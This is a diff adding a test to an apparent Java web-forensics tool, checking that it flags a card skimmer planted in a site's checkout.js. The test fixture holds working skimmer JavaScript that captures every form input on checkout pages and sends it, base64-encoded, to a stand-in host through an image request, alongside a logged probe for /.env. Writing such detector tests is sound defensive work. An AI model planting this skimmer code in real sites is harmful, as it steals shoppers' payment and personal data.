@@ -2,7 +2,9 @@ package org.evenkeel.forensics;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.evenkeel.forensics.investigation.EntryPoint;
 import org.evenkeel.forensics.investigation.Investigation;
 import org.evenkeel.forensics.investigation.Verdict;
@@ -84,6 +86,28 @@ class HolesAndShellsTest {
     monitored();
 
     assertThat(log.investigated().verdict()).isEqualTo(Verdict.NO_EVIDENCE);
+  }
+
+  @Test
+  void whereASkimmerLiesNobodyIsComforted(@TempDir Path web) throws Exception {
+    log.at(1, 1, 1).by("192.0.2.12", WrittenLog.TOOL).then(0, "GET /.env", 404, 300);
+    Files.writeString(
+        web.resolve("checkout.js"),
+        """
+        if (location.href.indexOf('checkout') > -1) {
+          document.addEventListener('change', function () {
+            var d = {};
+            document.querySelectorAll('input').forEach(function (e) { d[e.name] = e.value; });
+            new Image().src = 'https://jq-stat.example/p.gif?d=' + btoa(JSON.stringify(d));
+          });
+        }
+        """);
+
+    Investigation found = log.investigated(new StoreCopy(List.of(web), List.of(), List.of()));
+    assertThat(found.verdict()).isGreaterThanOrEqualTo(Verdict.PROBABLE);
+    assertThat(found.answer().story())
+        .anySatisfy(said -> assertThat(said.text()).contains("checkout.js"))
+        .noneSatisfy(said -> assertThat(said.text()).contains("expose nobody"));
   }
 
   private void monitored() {
